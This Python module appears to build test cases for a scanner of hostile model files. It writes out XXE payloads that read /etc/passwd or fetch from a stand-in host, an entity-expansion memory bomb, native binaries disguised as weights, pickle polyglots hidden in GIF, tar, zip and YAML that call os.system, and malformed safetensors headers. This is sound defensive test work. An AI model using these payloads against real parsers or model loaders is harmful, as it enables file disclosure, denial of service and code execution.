"""What fits no other family: XML that reaches out, programs, files for two readers, pointers, headers that lie."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
from collections.abc import Iterator

from corpus.hostile import Case, Family
from corpus.hostile.assembler import RAN, SYSTEM, stream
from hostile import CALL, POINTER, npy, onnx, png, safetensors, torch_members, weight, zipped

XML = Family("XML")
NATIVE = Family("native program")
POLYGLOT = Family("file for two readers")
LFS = Family("LFS pointer")
SAFETENSORS = Family("safetensors")

CODE = stream(SYSTEM)
SHELL = "runs a shell command under pickle.load"


def cases() -> Iterator[Case]:
    yield from _xml()
    yield from _native()
    yield from _polyglots()
    yield from _pointers()
    yield from _safetensors()


def _xml() -> Iterator[Case]:
    start = b'<?xml version="1.0"?>\n'
    body = b'<PMML version="4.4"><Header copyright="&a;"/></PMML>\n'
    reads, expands = "reads a file of the machine, or connects", "takes all memory"
    for name, data, effect in (
        ("file entity", start + b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n' + body, reads),
        ("web entity", start + b'<!DOCTYPE a [<!ENTITY a SYSTEM "http://host.invalid/">]>\n' + body, reads),
        ("external DTD", start + b'<!DOCTYPE a SYSTEM "http://host.invalid/a.dtd">\n' + body, reads),
        (
            "parameter entity",
            start + b'<!DOCTYPE a [<!ENTITY % a SYSTEM "http://host.invalid/a.dtd"> %a;]>\n' + body, reads,
        ),
        (
            "laughs", start + b'<!DOCTYPE a [<!ENTITY b "ha">'
            + b"".join(b'<!ENTITY a%d "&%s;&%s;">' % (n, b"b" * (n == 0) or b"a%d" % (n - 1),
                                                      b"b" * (n == 0) or b"a%d" % (n - 1)) for n in range(30))
            + b'<!ENTITY a "&a29;">]>\n' + body, expands,
        ),
        ("include", start + b'<PMML xmlns:xi="http://www.w3.org/2001/XInclude">'
         b'<xi:include href="file:///etc/passwd" parse="text"/></PMML>\n', reads),
    ):  # fmt: skip
        yield XML.case(name, "model.pmml", data, effect)
    entity = start + b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n'
    yield XML.case("OpenVINO", "openvino_model.xml", entity + b'<net name="&a;" version="11"/>\n', reads)
    yield XML.case("picture", "logo.svg", entity + b"<svg>&a;</svg>\n", reads)
    wide = (entity + body).decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")
    yield XML.case("UTF-16", "model.pmml", wide, reads, held=True)


def _native() -> Iterator[Case]:
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHL", 3, 62, 1) + bytes(40)
    pe = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0" + bytes(64)
    macho = b"\xcf\xfa\xed\xfe" + struct.pack("<7L", 0x1000007, 3, 6, 0, 0, 0, 0)
    for name, path, data in (
        ("ELF", "custom_ops.so", elf),
        ("ELF without an ending", "weights", elf),
        ("ELF as data", "model.bin", elf),
        ("ELF as weights", "model.safetensors", elf),
        ("PE", "custom_ops.dll", pe),
        ("PE as data", "model.dat", pe),
        ("Mach-O", "custom_ops.dylib", macho),
        ("universal Mach-O", "custom_ops", b"\xca\xfe\xba\xbe" + struct.pack(">L", 1) + bytes(40)),
        ("ELF in a zip", "model.zip", zipped({"lib.so": elf})),
        ("ELF in a checkpoint", "model.pt", zipped(torch_members(extra=elf))),
    ):
        yield NATIVE.case(name, path, data, "brings native code where data is expected")


def _disguised() -> Iterator[Case]:
    """Yield files of other formats whose first bytes are operations for an unpickler."""
    entry = tarfile.TarInfo(CALL.decode())
    entry.size = 4
    named = io.BytesIO()
    with tarfile.open(fileobj=named, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        archive.addfile(entry, io.BytesIO(b"text"))
    yield POLYGLOT.case("pickle in a tar's first name", "model.pkl", named.getvalue(), SHELL, RAN)
    yield POLYGLOT.case("the same, compressed", "model.pkl.gz", gzip.compress(named.getvalue(), mtime=0), SHELL, RAN)
    # BINFLOAT takes the magic and most of the size, POP drops it, and a short string takes what stands before the colours.
    picture = b"GIF89a\1\0\1" + b"0" + b"\x8c\1A" + CALL.ljust(96, b".") + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    yield POLYGLOT.case("pickle in a GIF's colours", "logo.gif", picture, SHELL, RAN)
    tensor = b"\x89HDF\r\n\x1a\n".rjust(8 + 512)
    header = json.dumps({"a": {"dtype": "U8", "shape": [len(tensor)], "data_offsets": [0, len(tensor)]}}).encode()
    content = (504).to_bytes(8, "little") + header.ljust(504) + tensor
    yield POLYGLOT.case("HDF5 in a tensor", "model.bin", content, "opens as HDF5, too", held=True)


def _polyglots() -> Iterator[Case]:
    yield from _disguised()
    tensors = safetensors({"a": weight(0, 8)}, bytes(8))
    hostile_zip = zipped({"model.pkl": CODE})
    runs = {
        "pickle, then zip": CODE + zipped({"a.txt": b"text"}),
        "text pickle, then zip": CALL + zipped({"a.txt": b"text"}),
        "picture, then zip": png() + hostile_zip,
        "tensors, then zip": tensors + hostile_zip,
        "text, then zip": b"# A model\n" + hostile_zip,
        "array, then zip": npy() + hostile_zip,
        "pickle in a zip's comment": zipped({"model.pkl": CODE})[:-2] + b"\4\0text",
        "pickle that is YAML": b"cos\nsystem\n(S'true'\ntR.\n# a: 1\n",
        "pickle that is JSON": b"]cos\nsystem\n(S'true'\ntR.",
    }
    for name, data in runs.items():
        yield POLYGLOT.case(name, "model.bin", data, SHELL, RAN)
    for name, data in {
        "picture, then pickle": png(tail=CODE),
        "tensors, then pickle": tensors + CODE,
        "array, then pickle": npy() + CODE,
        "onnx, then pickle": onnx() + CODE,
        "text in a zip's gap": b"text" + zipped({"a.txt": b"text"}),
    }.items():
        yield POLYGLOT.case(name, "model.bin", data, "hides what another reader would find", held=True)


def _pointers() -> Iterator[Case]:
    for path in ("model.safetensors", "pytorch_model.bin", "model.onnx"):
        yield LFS.case(path, path, POINTER, "is not the weights", held=True)


def _safetensors() -> Iterator[Case]:
    fine = {"a": weight(0, 8)}
    long = struct.pack("<Q", 1 << 40)
    for name, data in {
        "header beyond the file": long + json.dumps(fine).encode(),
        "not JSON": safetensors("{'a': 1}", b""),
        "duplicate key": safetensors('{"a":%s,"a":%s}' % ((json.dumps(fine["a"]),) * 2), bytes(8)),
        "hole": safetensors({"a": weight(8, 16)}, bytes(16)),
        "overlap": safetensors({"a": weight(0, 8), "b": weight(4, 12)}, bytes(12)),
        "bytes behind": safetensors(fine, bytes(12)),
        "shape": safetensors({"a": weight(0, 8, shape=[9])}, bytes(8)),
        "offsets": safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}}, bytes(8)),
        "type": safetensors({"a": {"dtype": "X9", "shape": [2], "data_offsets": [0, 8]}}, bytes(8)),
    }.items():
        yield SAFETENSORS.case(name, "model.safetensors", data, "lies about its tensors", held=True)
